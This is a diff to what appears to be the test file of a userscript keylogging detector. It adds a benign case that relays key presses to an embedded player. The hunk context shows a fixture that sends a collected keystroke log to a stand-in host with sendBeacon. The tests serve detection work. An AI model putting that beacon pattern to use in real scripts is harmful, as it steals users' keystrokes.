@@ -41,6 +41,13 @@ setInterval(()=>{navigator.sendBeacon("https://c.stranger.test/",log);log=""},50
 				`document.addEventListener("keydown",e=>{if(e.key==="t")GM_xmlhttpRequest({url:"https://api.helper.example/time"})})`,
 			),
 		],
+		[
+			"a digit that says how far to wind on",
+			userscript(
+				["match https://shop.example/*"],
+				`const f=document.querySelector("iframe"),s={d:0};addEventListener("message",e=>{s.d=e.data.d});addEventListener("keydown",e=>f.contentWindow.postMessage({to:s.d*e.key/10},"https://player.stranger.test"))`,
+			),
+		],
 	])("leaves alone %s", (_title, code) => {
 		expect(findIn(keylogging, code)).toEqual([]);
 	});
